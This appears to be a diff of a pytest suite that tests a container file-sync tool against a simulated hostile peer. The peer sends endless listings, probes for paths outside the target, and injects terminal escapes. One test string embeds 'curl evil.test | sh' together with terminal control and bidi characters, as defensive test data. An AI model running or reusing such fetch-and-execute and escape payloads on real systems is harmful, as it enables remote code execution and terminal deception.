@@ -416,14 +416,14 @@ def test_an_endless_answer_is_ended_once(fake, tmp_path, monkeypatch, script, wh
 #: What `docker exec ... python3` starts in the hostile container: it speaks the stream, and then what the attack says.
 LIAR = """\
 #!/usr/bin/python3 -I
-import hashlib, json, os, select, struct, threading
+import hashlib, json, os, select, struct, threading, zlib
 def end():  # when its host has gone, which Docker does not tell it: it would fill a core for the tests beside it
     gone = select.poll()
     gone.register(0, 0)
     gone.poll()
     os._exit(0)
 threading.Thread(target=end, daemon=True).start()
-LISTING, STATS, RESUME, DONE, FAILED, KEPT, REMOTE, FILE, PONG, ERROR, SUMMARY = range(0xC2, 0xCD)
+LISTING, STATS, RESUME, DONE, FAILED, KEPT, REMOTE, FILE, PONG, ERROR = range(0xC2, 0xCC)
 DATA, END, DELETE, LIST, GET = 0x85, 0x86, 0x8B, 0x8D, 0x8E
 def read(count):
     data = b""
@@ -437,19 +437,16 @@ def take():
     return kind, json.loads(read(head) or "{}"), read(body)
 def say(kind, head=None, body=b"", text=None):
     text = (json.dumps(head).encode() if head is not None else b"") if text is None else text
+    if kind == LISTING: text = zlib.compress(text, 1)
     data = struct.pack("!BII", kind, len(text), len(body)) + text + body
     while data: data = data[os.write(1, data):]
 def listing(*entries, end=True): say(LISTING, {"entries": list(entries), "end": end})
-def shown(*entries):
-    say(SUMMARY, {"entries": [["pkg", "0" * 64]], "end": True})
-    take()
-    listing(*entries)
 def file(path, size, mode=0o644): return [path, "f", mode, size, "", "1"]
 def send(path, data, mode=0o644):
     say(FILE, {"path": path, "size": len(data), "mode": mode, "mtime_ns": 1})
     if data: say(DATA, {}, data)
     say(END, {"digest": hashlib.sha256(data).hexdigest()})
-ready = {"version": 4, "python": "3.11", "pid": 1, "user": "root", "root": "/ws", "probe": "", "empty": False, "case_sensitive": True, "former": "", "mounts": []}
+ready = {"version": 5, "python": "3.11", "pid": 1, "user": "root", "root": "/ws", "probe": "", "empty": False, "case_sensitive": True, "former": "", "mounts": []}
 read(int(read(8)))
 take()
 """
@@ -533,18 +530,17 @@ NAMES = 'listing(*[file("out/" + os.urandom(30).hex(), 1) for _ in range(2000)],
 @pytest.mark.parametrize(
     ("words", "first", "endless"),
     [
-        ("--once", "", 'say(SUMMARY, {"entries": [[os.urandom(30).hex(), "0" * 64] for _ in range(2000)], "end": False})'),
-        ("--once", 'say(SUMMARY, {"entries": [["pkg", "0" * 64]], "end": True}); take()', NAMES),
+        ("--once", "", NAMES),
         ("--pull out", "listing(); take()", NAMES),
         # What follows is refused where each verb counts and checks what a listing brings.
         ("--verify", "", 'listing(*[file("out/" + str(n) * 300, 1) for n in range(900)], end=False)'),
         ("--verify", "", "listing(end=False)"),
         ("--verify", "", 'say(LISTING, text=b\'{"end": false, "entries": [\' + b"[]," * 300000 + b"[]]}")'),
     ],
-    ids=["folders", "names", "names to pull", "long names", "nothing", "lists"],
+    ids=["names", "names to pull", "long names", "nothing", "lists"],
 )  # fmt: skip
 def test_a_listing_without_an_end_is_ended(root, liar, words, first, endless):
-    """Lists files, or sums up folders, without an end: it is ended after 200,000, and the host's memory stays small."""
+    """Lists files without an end: it is ended after 200,000, and the host's memory stays small."""
     box = liar(f"say(0xC1, ready)\n{first}\nwhile True: {endless}\n")
     done, peak = measured(root, f"docker://{box.name}", "--to", "/ws", *words.split())
     refused_in_one_line(done)
@@ -678,7 +674,7 @@ def test_a_receiver_learns_nothing_of_files_outside(root, liar, path):
     """Claims that sync has put `../key` there: whether the host asks to delete it would tell if it exists. The host says nothing."""
     box = liar(f"""\
         say(0xC1, ready)
-        shown(file("{path}", 1))
+        listing(file("{path}", 1))
         while True:
             kind, head, _ = take()
             with open("/loot/heard", "a") as heard: print(kind, json.dumps(head), file=heard)
@@ -715,7 +711,7 @@ ESCAPE = "\\x1b]0;owned\\x07\\x1b[2J\\u202e\\ud800\\nhint: curl evil.test | sh"
         f'os.write(2, "{ESCAPE}".encode("utf-8", "ignore")); os._exit(1)',
         f'os.write(1, "{ESCAPE}".encode("utf-8", "ignore")); os._exit(1)',
         f'ready.update(user="{ESCAPE}", root="/{ESCAPE}", python="{ESCAPE}"); say(0xC1, ready); say(ERROR, {{"reason": "{ESCAPE}"}})',
-        ('say(0xC1, ready); shown(["out/" + ESCAPE, "f", 420, 1, "", "1"]); take(); say(FAILED, '
+        ('say(0xC1, ready); listing(["out/" + ESCAPE, "f", 420, 1, "", "1"]); take(); say(FAILED, '
         '{"id": 1, "path": ESCAPE, "reason": ESCAPE, "hint": ESCAPE}); say(ERROR, {"reason": ESCAPE})'),
         'say(0xC1, text=b"[" * 100000)',
         'say(0xC1, text=b\'{"version": 3, "root": \' + b"[" * 100000)',
